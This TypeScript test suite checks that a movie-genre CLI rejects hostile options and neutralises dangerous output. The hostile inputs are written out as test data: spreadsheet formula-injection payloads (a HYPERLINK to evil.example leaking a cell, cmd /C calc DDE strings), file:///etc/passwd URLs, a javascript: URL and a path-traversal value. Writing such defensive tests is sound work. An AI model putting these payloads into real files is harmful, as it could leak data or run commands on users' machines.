// Hostile command lines: out-of-range or non-numeric option values (each message must name the option), --eval
// leaking training rows (same file, another spelling, shared rows) and --allow-eval-overlap, predictions CSV cells a
// spreadsheet would run as formulas, and --out aimed at the input or an existing file.
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parse } from 'csv-parse/sync';
import { Case, POINTER_MAY_CHANGE } from './case';
import { RunResult } from './exec';
import { csvText, mkfifo, movies, tinyCsv, write } from './generate';

const TRAIN = ['--image-encoder', 'none', '--no-ablation', '--no-progress'];

/** `train data.csv <flag> <value>` must fail with a message naming `flag`. */
const badValue = (flag: string, value: string, command = 'train'): Case => ({
  name: `${command} ${flag} ${JSON.stringify(value)}`, files: (d) => void tinyCsv(d),
  args: () => (command === 'prune' ? ['prune', '.genre-lens', flag, value] : ['train', 'data.csv', ...TRAIN, flag, value]),
  code: 1, message: new RegExp(flag.replace(/-/g, '\\-')),
});

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

/** No cell of the predictions CSV on stdout may start like a formula (OWASP CSV injection). */
const noFormulaCells = (_d: string, r: RunResult): string | null => {
  let rows: string[][];
  try {
    rows = parse(r.stdout) as string[][];
  } catch (e) {
    return `stdout is not CSV: ${(e as Error).message}`;
  }
  const bad = rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c));
  if (bad.length) return `${bad.length} formula cell(s), e.g. ${JSON.stringify(bad[0])}`;
  return rows.flat().some((c) => c.includes('HYPERLINK')) ? null : 'the hostile titles are missing from the output';
};

/** The manifest of the newest model in the case's store (store names sort by creation time). */
const newModelManifest = (d: string): string => {
  const models = path.join(d, '.genre-lens/models');
  const name = fs.readdirSync(models).filter((n) => !n.startsWith('.')).sort().at(-1);
  return name ? fs.readFileSync(path.join(models, name, 'manifest.json'), 'utf8') : '';
};

const rows = movies();
const OVERLAP = /--allow-eval-overlap/;

export const optionCases: Case[] = [
  badValue('--seed', 'abc'), badValue('--seed', '-1'), badValue('--seed', '1.5'), badValue('--seed', '99999999999'),
  badValue('--eval-fraction', '-0.5'), badValue('--eval-fraction', '1'), badValue('--eval-fraction', '0'),
  badValue('--eval-fraction', 'abc'), badValue('--eval-fraction', 'NaN'),
  badValue('--workers', '0'), badValue('--workers', 'abc'), badValue('--workers', '100000'),
  badValue('--keep', '0'), badValue('--keep', 'abc'), badValue('--keep', '-2', 'prune'),
  badValue('--max-genres', '0'), badValue('--max-genres', '-3'),
  badValue('--heads', 'svm'), badValue('--heads', 'linear,linear'), badValue('--heads', '../knn'),
  badValue('--image-encoder', 'evil'), badValue('--models', 'no/such/folder'), badValue('--model-url', 'file:///etc/passwd'),
  badValue('--text-encoder', 'bert'), badValue('--hub-url', 'file:///etc/passwd'), badValue('--hub-url', 'not a url'),
  badValue('--poster-base-url', 'javascript:alert(1)'),
  { name: 'an unknown option', files: (d) => void tinyCsv(d), args: () => ['train', 'data.csv', '--bogus'], code: 1, message: /--bogus/ },
  { name: '--genres-column naming no column', files: (d) => void tinyCsv(d), args: () => ['train', 'data.csv', ...TRAIN, '--genres-column', 'nope'],
    code: 1, message: /nope/ },
  // ---- evaluation rows leaking from the training rows
  { name: '--eval is the training file', files: (d) => void tinyCsv(d), args: () => ['train', 'data.csv', '--eval', 'data.csv', ...TRAIN],
    code: 1, message: OVERLAP },
  { name: '--eval is the training file spelled differently', files: (d) => void tinyCsv(path.join(d, 'sub')),
    args: (_c, d) => ['train', 'sub/data.csv', '--eval', path.join(d, 'sub/../sub/./data.csv'), ...TRAIN], code: 1, message: OVERLAP },
  { name: '--eval is a copy of the training file', files: (d) => void (tinyCsv(d), tinyCsv(d, 'copy.csv')),
    args: () => ['train', 'data.csv', '--eval', 'copy.csv', ...TRAIN], code: 1, message: /72[^]*--allow-eval-overlap|--allow-eval-overlap[^]*72/ },
  { name: '--eval shares 10 rows with the training file', files: (d) => {
    write(d, 'train.csv', csvText(rows.slice(0, 60)));
    write(d, 'eval.csv', csvText(rows.slice(50)));
  }, args: () => ['train', 'train.csv', '--eval', 'eval.csv', ...TRAIN], code: 1, message: /\b10\b[^]*--allow-eval-overlap|--allow-eval-overlap[^]*\b10\b/ },
  { name: '--allow-eval-overlap trains and records the overlap', files: (d) => {
    write(d, 'train.csv', csvText(rows.slice(0, 60)));
    write(d, 'eval.csv', csvText(rows.slice(50)));
  }, args: () => ['train', 'train.csv', '--eval', 'eval.csv', '--allow-eval-overlap', ...TRAIN], code: 0, rules: POINTER_MAY_CHANGE,
  check: (d) => (/overlap/i.test(newModelManifest(d)) ? null : 'manifest.json does not record the overlap') },
  // ---- outputs
  { name: 'predict: formula titles are neutralised in the CSV', files: (d) =>
    void write(d, 'data.csv', csvText(rows.map((r, i) => (i < INJECTIONS.length ? { ...r, id: INJECTIONS[i], title: INJECTIONS[i] } : r)))),
  args: () => ['predict', '.genre-lens', 'data.csv', '--no-progress'], code: 0, check: noFormulaCells },
  { name: 'predict --out the input file', files: (d) => void tinyCsv(d), args: () => ['predict', '.genre-lens', 'data.csv', '--out', './data.csv'],
    code: 1, message: /--out/ },
  { name: 'predict --out an existing file', files: (d) => void (tinyCsv(d), write(d, 'keep.csv', 'precious\n')),
    args: () => ['predict', '.genre-lens', 'data.csv', '--out', 'keep.csv', '--no-progress'], code: 1, message: /keep\.csv[^\n]*exist|exist[^\n]*keep\.csv/i },
  // ---- --out aimed at what is not a new file in an existing folder: refused before any work, naming --out
  ...([['a FIFO', 'fifo.csv', (d: string) => void mkfifo(path.join(d, 'fifo.csv')), /already exists \(a FIFO\)/],
    ['/dev/null', '/dev/null', () => undefined, /already exists/],
    ['/dev/stdout', '/dev/stdout', () => undefined, /already exists/],
    ['a symbolic link to the input', 'link.csv', (d: string) => fs.symlinkSync('data.csv', path.join(d, 'link.csv')), /already exists \(a symbolic link\)/],
    ['a dangling symbolic link', 'dangling.csv', (d: string) => fs.symlinkSync('nowhere.csv', path.join(d, 'dangling.csv')), /already exists \(a symbolic link\)/],
    ['a folder', 'sub', (d: string) => fs.mkdirSync(path.join(d, 'sub')), /already exists \(a folder\)/],
    ['a missing folder', 'no/such/dir/p.csv', () => undefined, /the folder no\/such\/dir does not exist/],
    ['a path under a file', 'data.csv/p.csv', () => undefined, /data\.csv is a file, not a folder/]] as const)
    .map(([what, out, make, says]): Case => ({
      name: `predict --out ${what} is refused before any work`, files: (d) => void (tinyCsv(d), make(d)),
      args: () => ['predict', '.genre-lens', 'data.csv', '--out', out, '--no-progress'], code: 1,
      message: new RegExp(`--out ${out.replace(/[./]/g, '\\$&')}: [^\n]*${says.source}`), absent: /EEXIST|ENOENT|ENOTDIR|^id,/m })),
  // ---- folder environment variables checked before any work, naming the variable
  { name: 'GENRE_LENS_CACHE=/dev/null is refused before any work', files: (d) => void tinyCsv(d), env: { GENRE_LENS_CACHE: '/dev/null' },
    args: () => ['predict', '.genre-lens', 'data.csv', '--no-progress'], code: 1, message: /GENRE_LENS_CACHE=\/dev\/null: [^\n]*--cache/, absent: /ENOTDIR/ },
  { name: 'GENRE_LENS_MODELS naming no folder is refused', files: (d) => void tinyCsv(d), env: { GENRE_LENS_MODELS: 'no/such/models' },
    args: () => ['train', 'data.csv', '--no-ablation', '--no-progress'], code: 1, message: /GENRE_LENS_MODELS=no\/such\/models: [^\n]*--models/ },
  { name: 'GENRE_LENS_POSTER_ROOTS with a missing folder is refused', files: (d) => void tinyCsv(d),
    env: { GENRE_LENS_POSTER_ROOTS: ['.', 'no/such/posters'].join(path.delimiter) },
    args: () => ['predict', '.genre-lens', 'data.csv', '--no-progress'], code: 1, message: /GENRE_LENS_POSTER_ROOTS=no\/such\/posters: / },
  { name: 'prune --keep beyond any integer names the range', files: (d) => void tinyCsv(d),
    args: () => ['prune', '.genre-lens', '--keep', '99999999999999999999999'], code: 1, message: /--keep[^]*at most 9007199254740991/ },
];
